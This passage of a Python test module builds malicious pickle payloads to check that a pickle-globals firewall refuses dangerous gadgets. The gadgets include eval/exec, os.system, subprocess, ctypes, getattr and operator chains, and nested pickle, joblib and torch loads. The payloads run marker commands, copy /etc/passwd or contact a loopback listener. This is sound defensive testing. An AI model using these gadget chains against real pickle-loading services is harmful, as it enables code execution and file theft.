"""Attack pickles for the pickle_globals policy (issue 11): every gadget of
../shared/ENGINES.md ("Gadgets: globals that must never be allowed") and the
shapes the policy must refuse (getattr chains, dotted qualnames, memo
overwrites, BUILD on a class, nested pickles, pickles inside msgpack).

Each payload is built for one test directory by ``build(name, ctx)`` and
says how to tell that it landed when the worker (worker.py, with the
payload's ``decode`` mode) loaded it:

  ("file", path)          the file (or directory, or socket) exists
  ("glob", dir, pattern)  some file matching pattern exists in dir
  ("connect",)            the test's loopback listener (ctx.port) got a connection
  ("exit",)               the worker process ended (sys.exit, a hijacked worker global...)
  ("changed", path, b)    the file no longer holds bytes b (it was planted with b)
  ("loaded", text)        the worker's record of the message has text in its
                          repr: used for import-only payloads (the import happened)
  ("received",)           only that the worker received it: the module does not
                          exist on this host (nt), so nothing more can be shown

``import_only`` is set, with the reason, for payloads that cannot do anything
observable through pickle alone; they still import the gadget and the
firewall must drop them.

``expect`` is the set of values acceptable as the drop line's "global" on a
trusted route with pickle_globals = [ "@sglang", "@torch", "@numpy", *allow ]:
the first import not allowed ("unknown" when an operand is not a constant
string). ``allow`` lists the extra entries a shape relies on (they must not
make it pass). ``untrusted`` is True for payloads also sent from a peer
outside allow_pickle_from on a route without pickle_globals (msgpack and
nested forms: the drop reason there is "pickle").

Most pickles are assembled opcode by opcode (``pk`` wraps a body in PROTO
and one FRAME, as CPython's pickler does for protocol 4 and 5), so the order
of imports is exact: the gadget under test is always the first import, and
only the gadget modules a payload names are imported. A few use the real
pickler (``R`` objects with __reduce__) for the shape real engines send.
"""

import io
import os
import pickle
import pickletools
import shlex
import struct
from collections import OrderedDict
from dataclasses import dataclass, field
from pathlib import Path

E2E = Path(__file__).resolve().parent


# --- pickle assembler ------------------------------------------------------

def U(s):
    """Push a str (SHORT_BINUNICODE / BINUNICODE)."""
    b = s.encode("utf-8", "surrogatepass")
    if len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def B(b):
    """Push bytes (SHORT_BINBYTES / BINBYTES)."""
    if len(b) < 256:
        return b"C" + bytes([len(b)]) + b
    return b"B" + struct.pack("<I", len(b)) + b


def I(n):
    if 0 <= n < 256:
        return b"K" + bytes([n])
    return b"J" + struct.pack("<i", n)


NONE, TRUE, FALSE, POP, EMPTY_DICT = b"N", b"\x88", b"\x89", b"0", b"}"


def G(mod, name):
    """STACK_GLOBAL with constant operands."""
    return U(mod) + U(name) + b"\x93"


def T(*xs):
    if not xs:
        return b")"
    if len(xs) <= 3:
        return b"".join(xs) + bytes([0x84 + len(xs)])
    return b"(" + b"".join(xs) + b"t"


def L(*xs):
    return b"]" + (b"(" + b"".join(xs) + b"e" if xs else b"")


def D(*pairs):
    return b"}" + (b"(" + b"".join(k + v for k, v in pairs) + b"u" if pairs else b"")


def C(f, *args):
    """f(*args) through REDUCE."""
    return f + T(*args) + b"R"


def PUT(i):
    return b"q" + bytes([i])


def GET(i):
    return b"h" + bytes([i])


def getattr_(obj, name):
    return C(G("builtins", "getattr"), obj, U(name))


def pk(body, proto=4):
    """PROTO proto + one FRAME around body + STOP, as CPython writes it."""
    body += b"."
    return b"\x80" + bytes([proto]) + b"\x95" + struct.pack("<Q", len(body)) + body


class R:
    """An object that pickles as f(*args) (and state, via BUILD): for payloads
    written by the real pickler."""

    def __init__(self, f, *args, state=None):
        self.f, self.args, self.state = f, args, state

    def __call__(self, *a):  # the pickler insists the callable be callable
        raise AssertionError("never called here")

    def __reduce__(self):
        if self.state is None:
            return (self.f, self.args)
        return (self.f, self.args, self.state)


# --- ground truth helpers --------------------------------------------------

class _Stub:
    """Stands for every import while listing them: nothing real is called."""

    def __new__(cls, *a, **k):
        return object.__new__(cls)

    def __init__(self, *a, **k):
        pass

    def __call__(self, *a, **k):
        return _Stub()

    def __getattr__(self, name):
        return _Stub()

    def __setitem__(self, k, v):
        pass

    def __setstate__(*a):
        pass


class _Lister(pickle.Unpickler):
    def __init__(self, f):
        super().__init__(f)
        self.found = []

    def find_class(self, module, name):
        self.found.append(f"{module}:{name}")
        return _Stub


def imports_of(data):
    """Every module:qualname CPython's find_class is asked for when the
    outer pickle is loaded (nested pickles are not followed), in order. The
    imports are stubbed, so this is safe on attack pickles."""
    u = _Lister(io.BytesIO(data))
    try:
        u.load()
    except Exception:
        pass
    return u.found


# --- payloads ------------------------------------------------------------------

@dataclass
class Ctx:
    marker: Path        # the file an attack creates (absent before)
    cwd: Path           # the worker's working directory
    port: int = 0       # a loopback listener that accepts and closes
    plant: Path = None  # where the test plants files an attacker is assumed to control

    def __post_init__(self):
        if self.plant is None:
            self.plant = self.cwd


@dataclass
class Payload:
    name: str
    target: str           # the gadget ("module:qualname") or shape under test
    data: bytes
    check: tuple
    expect: frozenset = frozenset()
    decode: str = "pickle"
    import_only: str = ""
    allow: tuple = ()
    needs: frozenset = frozenset()
    untrusted: bool = False
    planted: dict = field(default_factory=dict)  # path -> bytes, written before sending
    note: str = ""

    def plant(self):
        for p, b in self.planted.items():
            Path(p).parent.mkdir(parents=True, exist_ok=True)
            Path(p).write_bytes(b)


_REG = {}

# needs: "listener" (ctx.port), "attackmods" (worker --sys-path), anything
# else is a module that must be importable here and in the worker.
NOT_MODULES = {"listener", "attackmods"}


def payload(name, target, **meta):
    """Register builder(ctx) -> (data, check) or a Payload, under name."""
    def deco(fn):
        assert name not in _REG, name
        _REG[name] = (target, meta, fn)
        return fn
    return deco


NAMES = _REG.keys()


def build(name, ctx):
    target, meta, fn = _REG[name]
    out = fn(ctx)
    if isinstance(out, Payload):
        p = out
    else:
        data, check = out[:2]
        p = Payload(name=name, target=target, data=data, check=check, **meta)
        if len(out) > 2:
            p.planted = out[2]
    p.name, p.target = name, target
    if not p.expect:
        first = imports_of(p.data)
        p.expect = frozenset(first[:1])
    return p


def meta(name):
    target, m, _ = _REG[name]
    return target, m


def _sh(ctx):
    return "touch " + shlex.quote(str(ctx.marker))


def _py(ctx):
    return "open(%r, 'w').close()" % str(ctx.marker)


def _file(ctx):
    return ("file", str(ctx.marker))


def _os_system(ctx, proto=4):
    return pk(C(G("posix", "system"), U(_sh(ctx))), proto)


# ---- code: builtins -------------------------------------------------------------

@payload("builtins-eval-p4", "builtins:eval")
def _(ctx):
    return pk(C(G("builtins", "eval"), U(_py(ctx)))), _file(ctx)


@payload("builtins-eval-p0-py2name", "builtins:eval",
         expect=frozenset({"__builtin__:eval", "builtins:eval"}))
def _(ctx):
    # Protocol 0, the Python 2 module name that fix_imports maps to builtins.
    return b"c__builtin__\neval\n(V" + _py(ctx).encode() + b"\ntR.", _file(ctx)


@payload("builtins-exec-p5", "builtins:exec")
def _(ctx):
    return pk(C(G("builtins", "exec"), U(_py(ctx))), 5), _file(ctx)


@payload("builtins-exec-p0", "builtins:exec")
def _(ctx):
    return b"cbuiltins\nexec\n(V" + _py(ctx).encode() + b"\ntR.", _file(ctx)


@payload("builtins-compile", "builtins:compile")
def _(ctx):
    # compile() runs first (memo 0), then eval() runs the code object.
    code = C(G("builtins", "compile"), U(_py(ctx)), U("<x>"), U("exec")) + PUT(0) + POP
    return pk(code + C(G("builtins", "eval"), GET(0))), _file(ctx)


@payload("builtins-__import__", "builtins:__import__")
def _(ctx):
    mod = C(G("builtins", "__import__"), U("os")) + PUT(0) + POP
    return pk(mod + C(getattr_(GET(0), "system"), U(_sh(ctx)))), _file(ctx)


@payload("builtins-globals", "builtins:globals")
def _(ctx):
    # globals() called from the C unpickler is the calling frame's module
    # globals: worker.py's. SETITEM sets its _stop flag: the worker quits.
    return pk(C(G("builtins", "globals")) + U("_stop") + TRUE + b"s" + POP + NONE), ("exit",)


@payload("builtins-locals", "builtins:locals")
def _(ctx):
    # locals() is worker.main()'s frame: its sockets and arguments leak into
    # the loaded object (the record shows the repr).
    return pk(C(G("builtins", "locals"))), ("loaded", "'poller':")


@payload("builtins-vars", "builtins:vars")
def _(ctx):
    return pk(C(G("builtins", "vars"))), ("loaded", "'poller':")


@payload("builtins-breakpoint", "builtins:breakpoint",
         import_only="breakpoint() only enters pdb, which reads the worker's stdin "
                     "(/dev/null here: it quits at EOF); no file, process or socket effect")
def _(ctx):
    return pk(G("builtins", "breakpoint")), ("loaded", "built-in function breakpoint")


@payload("builtins-input", "builtins:input",
         import_only="input() reads a line from the worker's stdin and writes a prompt to "
                     "its stdout; nothing observable on a server")
def _(ctx):
    return pk(G("builtins", "input")), ("loaded", "built-in function input")


# ---- code: modules ------------------------------------------------------------------

@payload("code-InteractiveInterpreter", "code:InteractiveInterpreter")
def _(ctx):
    interp = C(G("code", "InteractiveInterpreter")) + PUT(0) + POP
    return pk(interp + C(getattr_(GET(0), "runsource"), U(_py(ctx)))), _file(ctx)


@payload("code-compile_command", "code:compile_command")
def _(ctx):
    c = C(G("code", "compile_command"), U(_py(ctx))) + PUT(0) + POP
    return pk(c + C(G("builtins", "eval"), GET(0))), _file(ctx)


@payload("codeop-compile_command", "codeop:compile_command")
def _(ctx):
    c = C(G("codeop", "compile_command"), U(_py(ctx))) + PUT(0) + POP
    return pk(c + C(G("builtins", "eval"), GET(0))), _file(ctx)


@payload("runpy-_run_code", "runpy:_run_code")
def _(ctx):
    # _run_code(code, run_globals) is exec(code, run_globals); code may be a str.
    return pk(C(G("runpy", "_run_code"), U(_py(ctx)), EMPTY_DICT)), _file(ctx)


@payload("runpy-run_path", "runpy:run_path")
def _(ctx):
    script = ctx.plant / "planted_script.py"
    return (pk(C(G("runpy", "run_path"), U(str(script)))), _file(ctx),
            {script: (_py(ctx) + "\n").encode()})


@payload("marshal-loads", "marshal:loads")
def _(ctx):
    import marshal
    code = marshal.dumps(compile(_py(ctx), "<x>", "exec"))
    c = C(G("marshal", "loads"), B(code)) + PUT(0) + POP
    return pk(c + C(G("builtins", "eval"), GET(0))), _file(ctx)


@payload("types-FunctionType", "types:FunctionType")
def _(ctx):
    import marshal
    code = marshal.dumps(compile(_py(ctx), "<x>", "exec"))
    fn = C(G("types", "FunctionType"), C(G("marshal", "loads"), B(code)), EMPTY_DICT)
    return pk(C(fn)), _file(ctx)


@payload("types-CodeType", "types:CodeType")
def _(ctx):
    co = compile(_py(ctx), "<x>", "exec")
    args = (co.co_argcount, co.co_posonlyargcount, co.co_kwonlyargcount, co.co_nlocals,
            co.co_stacksize, co.co_flags, co.co_code, co.co_consts, co.co_names,
            co.co_varnames, co.co_filename, co.co_name, co.co_qualname, co.co_firstlineno,
            co.co_linetable, co.co_exceptiontable, co.co_freevars, co.co_cellvars)

    def enc(v):
        if isinstance(v, int):
            return I(v)
        if isinstance(v, bytes):
            return B(v)
        if isinstance(v, str):
            return U(v)
        if v is None:
            return NONE
        if isinstance(v, tuple):
            return T(*[enc(x) for x in v])
        raise TypeError(v)
    code = C(G("types", "CodeType"), *[enc(a) for a in args]) + PUT(0) + POP
    return pk(code + C(G("types", "FunctionType"), GET(0), EMPTY_DICT) + T() + b"R"), _file(ctx)


@payload("cProfile-run", "cProfile:run")
def _(ctx):
    return pk(C(G("cProfile", "run"), U(_py(ctx)))), _file(ctx)


@payload("profile-run", "profile:run")
def _(ctx):
    return pk(C(G("profile", "run"), U(_py(ctx)))), _file(ctx)


@payload("pdb-runcall", "pdb:runcall")
def _(ctx):
    # pdb.run stops at the first Python line and reads commands from stdin;
    # runcall of a C function has no Python line to stop at.
    return pk(C(G("pdb", "runcall"), G("posix", "system"), U(_sh(ctx)))), _file(ctx)


@payload("bdb-Bdb.run", "bdb:Bdb")
def _(ctx):
    # Bdb's user_line is a no-op: Bdb().run(src) just executes src.
    return pk(C(G("bdb", "Bdb.run"), C(G("bdb", "Bdb")), U(_py(ctx)))), _file(ctx)


@payload("timeit-timeit", "timeit:timeit")
def _(ctx):
    # The statement raises after its first run, so the default 1e6 loops stop at 1.
    return pk(C(G("timeit", "timeit"), U(_py(ctx) + "; 1/0"))), _file(ctx)


@payload("trace-Trace.runctx", "trace:Trace")
def _(ctx):
    return pk(C(G("trace", "Trace.runctx"), C(G("trace", "Trace"), I(0), I(0)),
                U(_py(ctx)), EMPTY_DICT, EMPTY_DICT)), _file(ctx)


@payload("doctest-run_docstring_examples", "doctest:run_docstring_examples")
def _(ctx):
    # DocTestFinder takes a str as the docstring itself.
    return pk(C(G("doctest", "run_docstring_examples"), U(">>> " + _py(ctx) + "\n"),
                EMPTY_DICT)), _file(ctx)


@payload("idlelib-run-Executive.runcode", "idlelib.run:Executive", needs=frozenset({"idlelib"}))
def _(ctx):
    ex = C(G("idlelib.run", "Executive"), NONE)
    return pk(C(G("idlelib.run", "Executive.runcode"), ex, U(_py(ctx)))), _file(ctx)


@payload("pydoc-pipepager", "pydoc:pipepager")
def _(ctx):
    # pipepager(text, cmd) runs cmd through the shell.
    return pk(C(G("pydoc", "pipepager"), U(""), U(_sh(ctx)))), _file(ctx)


@payload("pydoc-locate", "pydoc:locate")
def _(ctx):
    return pk(C(C(G("pydoc", "locate"), U("os.system")), U(_sh(ctx)))), _file(ctx)


@payload("numpy.testing-runstring", "numpy.testing:runstring", needs=frozenset({"numpy"}))
def _(ctx):
    return pk(C(G("numpy.testing", "runstring"), U(_py(ctx)), EMPTY_DICT)), _file(ctx)


@payload("numpy.f2py-crackfortran", "numpy.f2py.crackfortran:crackfortran",
         needs=frozenset({"numpy"}))
def _(ctx):
    # f2py's Fortran parser eval()s parameter expressions in the files it
    # reads; the planted file is a "Fortran module" whose parameter value is
    # Python. (numpy.f2py is a gadget for this and for compile(), which runs
    # a compiler.)
    src = ctx.plant / "planted.f90"
    # f2py lowercases the source: the Python is hex-encoded.
    expr = "exec(bytes.fromhex('%s').decode())" % _py(ctx).encode().hex()
    fortran = ("module m\n  integer, parameter :: n = 1\n"
               "  integer, parameter :: k = %s\nend module m\n" % expr)
    return (pk(C(G("numpy.f2py.crackfortran", "crackfortran"), L(U(str(src))))), _file(ctx),
            {src: fortran.encode()})


@payload("cloudpickle-function-rebuild", "cloudpickle's function rebuilders",
         needs=frozenset({"cloudpickle"}))
def _(ctx):
    # A real cloudpickle stream of a dynamic function (rebuilt by
    # cloudpickle.cloudpickle's _builtin_type/_make_function...), then REDUCE
    # calls it. The worker needs only cloudpickle installed, as vLLM has.
    import cloudpickle
    import types
    fn = types.FunctionType(compile("lambda: " + _py(ctx).replace(".close()", ".close()"),
                                    "<x>", "eval").co_consts[0], {"__name__": "__main__"})
    return cloudpickle.dumps(R(fn), protocol=5), _file(ctx)


# ---- any attribute ----------------------------------------------------------------

@payload("builtins-getattr", "builtins:getattr",
         expect=frozenset({"collections:Counter", "builtins:getattr", "getattr-shape"}))
def _(ctx):
    # getattr(collections.Counter.__init__, "__globals__")["_sys"].modules["os"].system
    glb = getattr_(getattr_(G("collections", "Counter"), "__init__"), "__globals__")
    sysm = C(getattr_(glb, "get"), U("_sys"))
    osm = C(getattr_(getattr_(sysm, "modules"), "get"), U("os"))
    return pk(C(getattr_(osm, "system"), U(_sh(ctx)))), _file(ctx)


@payload("builtins-setattr", "builtins:setattr", allow=("attackmods.shapes:Task",),
         needs=frozenset({"attackmods"}))
def _(ctx):
    # setattr(Task, "trace_dir", dir), then a Task message writes dir/rid.
    s = C(G("builtins", "setattr"), G("attackmods.shapes", "Task"), U("trace_dir"),
          U(str(ctx.marker.parent))) + POP
    task = G("attackmods.shapes", "Task") + T() + b"\x81" + D((U("rid"), U(ctx.marker.name)),
                                                              (U("prompt"), U("x"))) + b"b"
    return pk(s + task), _file(ctx)


@payload("builtins-delattr", "builtins:delattr")
def _(ctx):
    # Deletes zmq.Socket.recv_multipart: the worker's next receive fails and it dies.
    return pk(C(G("builtins", "delattr"), G("zmq", "Socket"), U("recv_multipart"))), ("exit",)


def _operator_chain(ctx, mod, first):
    """attrgetter/itemgetter/methodcaller from mod only:
    Counter.__init__.__globals__["_sys"].modules["os"].system(cmd)."""
    ag = lambda a: C(G(mod, "attrgetter"), U(a))
    ig = lambda k: C(G(mod, "itemgetter"), U(k))
    mc = C(G(mod, "methodcaller"), U("system"), U(_sh(ctx)))
    # The getter under test runs first (its result memoized), so it is the first import.
    pre = b""
    glb = C(ag("__init__.__globals__"), G("collections", "Counter"))
    if first == "methodcaller":
        pre, mc = mc + PUT(0) + POP, GET(0)
    elif first == "itemgetter":
        pre = ig("_sys") + PUT(1) + POP
    else:
        pre, glb = glb + PUT(2) + POP, GET(2)
    sysm = C(GET(1) if first == "itemgetter" else ig("_sys"), glb)
    osm = C(ig("os"), C(ag("modules"), sysm))
    return pk(pre + C(mc, osm)), _file(ctx)


@payload("operator-attrgetter", "operator:attrgetter")
def _(ctx):
    return _operator_chain(ctx, "operator", "attrgetter")


@payload("operator-itemgetter", "operator:itemgetter")
def _(ctx):
    return _operator_chain(ctx, "operator", "itemgetter")


@payload("operator-methodcaller", "operator:methodcaller")
def _(ctx):
    return _operator_chain(ctx, "operator", "methodcaller")


@payload("_operator-attrgetter", "_operator:attrgetter")
def _(ctx):
    return _operator_chain(ctx, "_operator", "attrgetter")


@payload("pkgutil-resolve_name", "pkgutil:resolve_name")
def _(ctx):
    return pk(C(C(G("pkgutil", "resolve_name"), U("os:system")), U(_sh(ctx)))), _file(ctx)


@payload("inspect-getattr_static", "inspect:getattr_static")
def _(ctx):
    # inspect.getmodule(inspect.getmodule) is inspect itself, which imports os.
    insp = C(G("inspect", "getmodule"), G("inspect", "getmodule"))
    osm = C(G("inspect", "getattr_static"), insp, U("os"))
    return pk(C(C(G("inspect", "getattr_static"), osm, U("system")), U(_sh(ctx)))), _file(ctx)


@payload("importlib-import_module", "importlib:import_module")
def _(ctx):
    m = C(G("importlib", "import_module"), U("os")) + PUT(0) + POP
    return pk(m + C(getattr_(GET(0), "system"), U(_sh(ctx)))), _file(ctx)


@payload("importlib-_write_atomic", "importlib._bootstrap_external:_write_atomic")
def _(ctx):
    return pk(C(G("importlib._bootstrap_external", "_write_atomic"), U(str(ctx.marker)),
                B(b"pwned"))), _file(ctx)


@payload("_imp-create_builtin", "_imp:create_builtin")
def _(ctx):
    # _imp.create_builtin(spec) hands out any built-in module (posix) by name.
    spec = G("argparse", "Namespace") + T() + b"R" + D((U("name"), U("posix"))) + b"b"
    m = C(G("_imp", "create_builtin"), spec) + PUT(0) + POP
    return pk(m + C(getattr_(GET(0), "system"), U(_sh(ctx)))), _file(ctx)


@payload("zipimport-zipimporter", "zipimport:zipimporter")
def _(ctx):
    # Code from any zip the attacker got onto the host (a "model" upload).
    import zipfile
    z = ctx.plant / "planted_model.zip"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("planted_evil.py", _py(ctx) + "\n")
    imp = C(G("zipimport", "zipimporter"), U(str(z)))
    return (pk(C(G("zipimport", "zipimporter.load_module"), imp, U("planted_evil"))),
            _file(ctx), {z: buf.getvalue()})


# ---- calls through wrappers -----------------------------------------------------

@payload("functools-partial", "functools:partial")
def _(ctx):
    # The real pickler's form of partial(os.system, cmd), then called.
    import functools
    return pickle.dumps(R(functools.partial(os.system, _sh(ctx))), protocol=5), _file(ctx)


@payload("functools-reduce", "functools:reduce")
def _(ctx):
    # reduce(open, ["w"], marker) == open(marker, "w")
    return pk(C(G("functools", "reduce"), G("io", "open"), L(U("w")), U(str(ctx.marker)))), _file(ctx)


# ---- processes, files, network -----------------------------------------------------

@payload("os-system-p0", "os:system")
def _(ctx):
    return b"cos\nsystem\n(S'" + _sh(ctx).encode() + b"'\ntR.", _file(ctx)


@payload("os-system-p4", "os:system")
def _(ctx):
    return pk(C(G("os", "system"), U(_sh(ctx)))), _file(ctx)


@payload("os-popen-p2", "os:popen")
def _(ctx):
    return b"\x80\x02cos\npopen\nq\x00X" + struct.pack("<I", len(_sh(ctx))) + _sh(ctx).encode() \
        + b"\x85R.", _file(ctx)


@payload("posix-system-p5", "posix:system")
def _(ctx):
    # What pickle.dumps writes for os.system.
    return pickle.dumps(R(os.system, _sh(ctx)), protocol=5), _file(ctx)


@payload("nt-system", "nt:system",
         import_only="nt is the Windows name of posix; absent on Linux, so the worker's import "
                     "fails (on Windows this is os.system)")
def _(ctx):
    return pk(C(G("nt", "system"), U(_sh(ctx)))), ("received",)


@payload("sys-exit", "sys:exit")
def _(ctx):
    # SystemExit is not an Exception: the worker's try/except does not stop it.
    return pk(C(G("sys", "exit"), I(0))), ("exit",)


@payload("subprocess-call", "subprocess:call")
def _(ctx):
    return pk(C(G("subprocess", "call"), L(U("touch"), U(str(ctx.marker))))), _file(ctx)


@payload("subprocess-getoutput", "subprocess:getoutput")
def _(ctx):
    return pk(C(G("subprocess", "getoutput"), U(_sh(ctx)))), _file(ctx)


@payload("_posixsubprocess-fork_exec", "_posixsubprocess:fork_exec")
def _(ctx):
    # errpipe_read 0 (the child closes it), errpipe_write 3 (any fd >= 3 the worker has)
    touch = b"/usr/bin/touch"
    args = [L(B(touch), B(str(ctx.marker).encode())), L(B(touch)), TRUE, T(), NONE, NONE,
            b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff",
            b"J\xff\xff\xff\xff", b"J\xff\xff\xff\xff", I(0), I(3),
            FALSE, FALSE, b"J\xff\xff\xff\xff", NONE, NONE, NONE,
            b"J\xff\xff\xff\xff", NONE, FALSE]  # 3.11: ..., child_umask, preexec_fn, allow_vfork
    return pk(C(G("_posixsubprocess", "fork_exec"), *args)), _file(ctx)


@payload("pty-spawn", "pty:spawn")
def _(ctx):
    return pk(C(G("pty", "spawn"), L(U("touch"), U(str(ctx.marker))))), _file(ctx)


@payload("multiprocessing-spawnv_passfds", "multiprocessing.util:spawnv_passfds")
def _(ctx):
    return pk(C(G("multiprocessing.util", "spawnv_passfds"), B(b"/usr/bin/touch"),
                L(B(b"touch"), B(str(ctx.marker).encode())), L())), _file(ctx)


@payload("shutil-copyfile", "shutil:copyfile")
def _(ctx):
    return pk(C(G("shutil", "copyfile"), U("/etc/passwd"), U(str(ctx.marker)))), _file(ctx)


@payload("tempfile-mkstemp", "tempfile:mkstemp")
def _(ctx):
    return (pk(C(G("tempfile", "mkstemp"), U(""), U(ctx.marker.name), U(str(ctx.marker.parent)))),
            ("glob", str(ctx.marker.parent), ctx.marker.name + "*"))


@payload("io-open", "io:open")
def _(ctx):
    return pk(C(G("io", "open"), U(str(ctx.marker)), U("w"))), _file(ctx)


@payload("_io-FileIO", "_io:FileIO")
def _(ctx):
    return pk(C(G("_io", "FileIO"), U(str(ctx.marker)), U("w"))), _file(ctx)


@payload("pathlib-Path.write_text", "pathlib:Path")
def _(ctx):
    # The real pickler's form: pathlib:Path.write_text is a dotted qualname
    # (protocol >= 4) and the path a pathlib:PosixPath.
    import pathlib
    return pickle.dumps(R(pathlib.Path.write_text, pathlib.Path(ctx.marker), "x"), protocol=4), _file(ctx)


@payload("logging-FileHandler", "logging:FileHandler")
def _(ctx):
    return pk(C(G("logging", "FileHandler"), U(str(ctx.marker)))), _file(ctx)


@payload("logging.handlers-WatchedFileHandler", "logging.handlers:WatchedFileHandler")
def _(ctx):
    return pk(C(G("logging.handlers", "WatchedFileHandler"), U(str(ctx.marker)))), _file(ctx)


@payload("tarfile-open", "tarfile:open")
def _(ctx):
    return pk(C(G("tarfile", "open"), U(str(ctx.marker)), U("w"))), _file(ctx)


@payload("tarfile-extractall", "tarfile:open")
def _(ctx):
    # Extraction of a planted archive into the marker's directory.
    import tarfile
    t = ctx.plant / "planted.tar"
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        ti = tarfile.TarInfo(ctx.marker.name)
        ti.size = 5
        tf.addfile(ti, io.BytesIO(b"pwned"))
    return (pk(C(G("tarfile", "TarFile.extractall"), C(G("tarfile", "open"), U(str(t))),
                 U(str(ctx.marker.parent)))), _file(ctx), {t: buf.getvalue()})


@payload("zipfile-ZipFile", "zipfile:ZipFile")
def _(ctx):
    return pk(C(G("zipfile", "ZipFile"), U(str(ctx.marker)), U("w"))), _file(ctx)


@payload("shelve-open", "shelve:open")
def _(ctx):
    return pk(C(G("shelve", "open"), U(str(ctx.marker)))), ("glob", str(ctx.marker.parent),
                                                           ctx.marker.name + "*")


@payload("sqlite3-connect", "sqlite3:connect")
def _(ctx):
    # sqlite creates the database file when a statement first touches it;
    # isolation_level=None: the CREATE commits at once.
    db = C(G("sqlite3", "connect"), U(str(ctx.marker))) + PUT(0) + POP
    return pk(db + C(G("sqlite3", "Connection.execute"), GET(0), U("create table t(x)"))), _file(ctx)


@payload("mmap-mmap", "mmap:mmap",
         note="mmap cannot create a file; it maps any descriptor the worker holds (fd "
              "guessing) or anonymous memory. Landing = the mmap object was created.")
def _(ctx):
    return pk(C(G("mmap", "mmap"), b"J\xff\xff\xff\xff", I(4096))), ("loaded", "<mmap.mmap")


@payload("ctypes-CDLL", "ctypes:CDLL")
def _(ctx):
    # CDLL(None) is libc; CDLL.__getitem__(libc, "system") its system().
    libc = C(G("ctypes", "CDLL"), NONE) + PUT(0) + POP
    fn = C(G("ctypes", "CDLL.__getitem__"), GET(0), U("system"))
    return pk(libc + C(fn, B(_sh(ctx).encode()))), _file(ctx)


@payload("socket-create_connection", "socket:create_connection", needs=frozenset({"listener"}))
def _(ctx):
    return pk(C(G("socket", "create_connection"), T(U("127.0.0.1"), I(ctx.port)))), ("connect",)


@payload("ssl-get_server_certificate", "ssl:get_server_certificate",
         needs=frozenset({"listener"}))
def _(ctx):
    return pk(C(G("ssl", "get_server_certificate"), T(U("127.0.0.1"), I(ctx.port)))), ("connect",)


@payload("http-MozillaCookieJar.save", "http.cookiejar:MozillaCookieJar")
def _(ctx):
    jar = C(G("http.cookiejar", "MozillaCookieJar"), U(str(ctx.marker)))
    return pk(C(G("http.cookiejar", "MozillaCookieJar.save"), jar)), _file(ctx)


@payload("http-HTTPConnection.connect", "http.client:HTTPConnection",
         needs=frozenset({"listener"}))
def _(ctx):
    conn = C(G("http.client", "HTTPConnection"), U("127.0.0.1"), I(ctx.port))
    return pk(C(G("http.client", "HTTPConnection.connect"), conn)), ("connect",)


@payload("urllib-urlretrieve", "urllib.request:urlretrieve")
def _(ctx):
    return pk(C(G("urllib.request", "urlretrieve"), U("data:,pwned"), U(str(ctx.marker)))), _file(ctx)


@payload("urllib-urlopen", "urllib.request:urlopen", needs=frozenset({"listener"}))
def _(ctx):
    return pk(C(G("urllib.request", "urlopen"), U("http://127.0.0.1:%d/" % ctx.port))), ("connect",)


@payload("requests-get", "requests:get", needs=frozenset({"listener", "requests"}))
def _(ctx):
    return pk(C(G("requests", "get"), U("http://127.0.0.1:%d/" % ctx.port))), ("connect",)


@payload("asyncio-start_unix_server", "asyncio:run")
def _(ctx):
    # asyncio.run(asyncio.start_unix_server(None, marker)) binds a unix
    # socket at the marker path (3.11 leaves it in place).
    return pk(C(G("asyncio", "run"), C(G("asyncio", "start_unix_server"), NONE,
                                       U(str(ctx.marker))))), _file(ctx)


@payload("webbrowser-open", "webbrowser:open",
         import_only="webbrowser.open needs a browser (or xdg-open) on the host; a headless "
                     "worker has none, so calling it shows nothing")
def _(ctx):
    return pk(G("webbrowser", "open")), ("loaded", "function open")


# ---- nested deserialisation --------------------------------------------------------

@payload("pickle-loads", "pickle:loads")
def _(ctx):
    return pk(C(G("pickle", "loads"), B(_os_system(ctx)))), _file(ctx)


@payload("_pickle-loads", "_pickle:loads")
def _(ctx):
    return pk(C(G("_pickle", "loads"), B(_os_system(ctx, 5)))), _file(ctx)


@payload("dill-loads", "dill:loads", needs=frozenset({"dill"}))
def _(ctx):
    return pk(C(G("dill", "loads"), B(_os_system(ctx)))), _file(ctx)


@payload("joblib-load", "joblib:load", needs=frozenset({"joblib"}))
def _(ctx):
    f = ctx.plant / "planted_model.joblib"
    return pk(C(G("joblib", "load"), U(str(f)))), _file(ctx), {f: _os_system(ctx)}


@payload("cloudpickle-loads", "cloudpickle:loads", needs=frozenset({"cloudpickle"}))
def _(ctx):
    return pk(C(G("cloudpickle", "loads"), B(_os_system(ctx)))), _file(ctx)


def _torch_zip(ctx):
    import torch
    buf = io.BytesIO()
    torch.save(R(os.system, _sh(ctx)), buf)
    return buf.getvalue()


@payload("torch-load", "torch:load", needs=frozenset({"torch"}))
def _(ctx):
    f = ctx.plant / "planted_model.pt"
    return pk(C(G("torch", "load"), U(str(f)))), _file(ctx), {f: _torch_zip(ctx)}


@payload("torch.serialization-load", "torch.serialization:load", needs=frozenset({"torch"}))
def _(ctx):
    f = ctx.plant / "planted_model.pt"
    return pk(C(G("torch.serialization", "load"), U(str(f)))), _file(ctx), {f: _torch_zip(ctx)}


@payload("torch.hub-download_url_to_file", "torch.hub:download_url_to_file",
         needs=frozenset({"torch"}))
def _(ctx):
    return pk(C(G("torch.hub", "download_url_to_file"), U("data:,pwned"), U(str(ctx.marker)),
                NONE, FALSE)), _file(ctx)


@payload("torch.hub-_load_local", "torch.hub:_load_local", needs=frozenset({"torch"}))
def _(ctx):
    d = ctx.plant / "planted_hub"
    return (pk(C(G("torch.hub", "_load_local"), U(str(d)), U("model"))), _file(ctx),
            {d / "hubconf.py": ("def model():\n    " + _py(ctx) + "\n").encode()})


@payload("torch.jit-load", "torch.jit:load", needs=frozenset({"torch"}),
         import_only="torch.jit.load runs TorchScript, which has no file, process or "
                     "Python-exec operation; refused because it loads any archive path")
def _(ctx):
    return pk(G("torch.jit", "load")), ("loaded", "function load")


# ---- copyreg and torch internals -----------------------------------------------------

@payload("copyreg-_reconstructor", "copyreg:_reconstructor")
def _(ctx):
    # _reconstructor(cls, base, state): base.__init__(obj, state) on any class.
    fh = G("logging", "FileHandler")
    return pk(C(G("copyreg", "_reconstructor"), fh, fh, U(str(ctx.marker)))), _file(ctx)


@payload("copyreg-_reconstructor-p0", "copyreg:_reconstructor",
